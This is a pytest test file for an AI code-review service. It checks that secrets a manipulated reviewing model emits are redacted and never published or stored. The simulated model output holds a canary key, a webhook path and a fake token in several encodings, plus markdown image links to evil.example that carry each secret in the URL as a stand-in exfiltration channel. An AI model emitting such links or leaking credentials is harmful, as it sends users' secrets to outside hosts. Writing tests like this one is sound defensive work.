"""A model that was talked into saying secrets: none of them is stored or published."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import pytest

from reviewer.ledger.keys import ReviewState
from reviewer.settings import Secret
from tests.service.rig import Rig, answer, rig
from tests.simulators.behaviour import Behaviour, Say

CANARY = "canary-Zk39xQ7pLm2VtR8wYb5N"
PATH_OF_ALERTS = "aX4kQ9zT7pLm2VtR8wYb"
ISSUED = "gh" + "p_" + "a1B2" * 9
DRESSED = (
    CANARY, CANARY[::-1], CANARY.encode().hex(), base64.b64encode(CANARY.encode()).decode(), PATH_OF_ALERTS, ISSUED
)  # fmt: skip


@pytest.fixture(scope="module")
def leaky(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rig]:
    settings = {
        "alert_webhook": f"https://hooks.chat.example/services/{PATH_OF_ALERTS}",
        "model_key": Secret(CANARY),
    }
    with rig(tmp_path_factory.mktemp("service"), **settings) as made:
        made.reviewer.next.clear()
        yield made


def says_secrets(body: Any) -> Behaviour:
    said = json.loads(answer(body))
    for finding in said.get("findings", ()):
        finding["title"] = f"`{DRESSED[0]}` and {DRESSED[5]}"
        finding["body"] = " ".join(f"`{form}` @octocat ![x](https://evil.example/{form})" for form in DRESSED)
        finding["suggestion"] = f"    key = '{CANARY}'"
    return Say(json.dumps(said))


def test_what_a_model_says_of_our_secrets_is_neither_stored_nor_published(leaky: Rig) -> None:
    leaky.reviewer.next += [says_secrets] * 40
    number = leaky.open()
    leaky.work()
    assert leaky.row(number).state is ReviewState.PUBLISHED
    shown = leaky.shown(number)
    check = shown.check
    bodies = [comment.body for comment in shown.inline]
    published = json.dumps([*bodies, shown.summary, check.title, check.summary, check.text])
    assert len(shown.inline) >= 2
    assert "[redacted]" in published
    stored = b"".join(path.read_bytes() for path in leaky.settings.state_dir.glob("ledger.sqlite*"))
    assert b"shop/orders.py" in stored
    for form in DRESSED:
        assert form not in published
        assert form.encode() not in stored
